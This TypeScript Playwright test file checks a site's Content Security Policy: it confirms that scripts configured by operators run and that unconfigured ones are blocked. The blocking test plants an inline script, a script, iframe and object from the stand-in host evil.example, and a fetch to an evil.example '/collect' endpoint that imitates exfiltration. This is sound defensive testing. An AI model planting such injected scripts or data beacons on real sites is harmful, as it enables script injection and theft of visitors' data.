import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { defaultSettings } from '../../../schema/contracts/site-settings.ts';
import { replaceInjectionCodes } from '../../../schema/store/commands/website/injection-codes.ts';
import { updateSiteSettings } from '../../../schema/store/commands/website/site-settings.ts';
import { loadSample } from '../../../scripts/sample/load.ts';
import { NOW, startSite, type Site } from '../support/site.ts';
import { createVisitor } from '../support/visitor.ts';
import { buildTester } from '../../../schema/store/commands/testing/tester.ts';

/** A site with codes and without ads, so that its CSP lists single scripts and hosts. */
let site: Site;
const visitor = createVisitor(() => site.url);

beforeAll(async () => {
  const by = { now: NOW, actor: buildTester('test') };
  site = await startSite(async (db) => {
    await loadSample(db, { businesses: 20, now: NOW });
    const head = '<script>\r\n  window.ran = ["head, ends of lines made plain"];\r\n</script>';
    const foot = '<script data-x="a>b">window.ran.push("foot");</script>';
    await updateSiteSettings(db, { codes: { ...defaultSettings.codes, head, foot } }, by);
    const code = (name: string, text: string) =>
      ({ name, code: text, position: 'body-end', consent: 'necessary' }) as const;
    await replaceInjectionCodes(
      db,
      [
        code('inline', '<script>\r\nwindow.ran.push("inserted 👩‍🍳 <i>");\r\n</script>'),
        code('loads', '<script src="https://chat.example/chat.js"></script>'),
        code('style', '<p id="styled" style="color: rgb(1, 2, 3)">Styled</p>'),
      ],
      by,
    );
  });
});
afterAll(() => site?.stop());

/** Stub of a third-party host, which tests do not reach. */
const serveStub = (page: Page, address: string, body: string) =>
  page.route(address, (route) => route.fulfill({ contentType: 'text/javascript', body }));
const hasRun = (page: Page) => page.evaluate(() => (window as unknown as { ran: string[] }).ran);

it('what operators set up runs', async () => {
  const page = await visitor();
  await serveStub(page, 'https://chat.example/chat.js', 'window.ran.push("loaded")');
  await page.goto('/about');
  await expect.poll(() => hasRun(page)).toHaveLength(4);
  expect((await hasRun(page)).toSorted()).toEqual([
    'foot',
    'head, ends of lines made plain',
    'inserted 👩‍🍳 <i>',
    'loaded',
  ]);
  const colour = await page.locator('#styled').evaluate((element) => getComputedStyle(element).color);
  expect(colour).toBe('rgb(1, 2, 3)');
});

it('what nobody set up is blocked', async () => {
  const page = await visitor();
  page.removeAllListeners('console').removeAllListeners('requestfailed');
  await serveStub(page, 'https://chat.example/chat.js', '');
  await serveStub(page, 'https://evil.example/evil.js', 'window.ran.push("evil")');
  await page.goto('/about');
  const blocked = await page.evaluate(async () => {
    const seen: string[] = [];
    const all = new Promise<string[]>((resolve) =>
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        seen.push(`${effectiveDirective} ${blockedURI}`);
        if (seen.length === 5) resolve(seen.toSorted());
      }),
    );
    const add = (tag: string, fields: Record<string, string>) =>
      document.body.append(Object.assign(document.createElement(tag), fields));
    add('script', { text: 'window.ran.push("planted")' });
    add('script', { src: 'https://evil.example/evil.js' });
    add('iframe', { src: 'https://evil.example/' });
    add('object', { data: 'https://evil.example/' });
    await fetch('https://evil.example/collect').catch(() => null);
    return all;
  });
  expect(blocked).toEqual([
    'connect-src https://evil.example/collect',
    'frame-src https://evil.example',
    'object-src https://evil.example',
    'script-src-elem https://evil.example/evil.js',
    'script-src-elem inline',
  ]);
  expect((await hasRun(page)).filter((what) => what === 'planted' || what === 'evil')).toEqual([]);
});
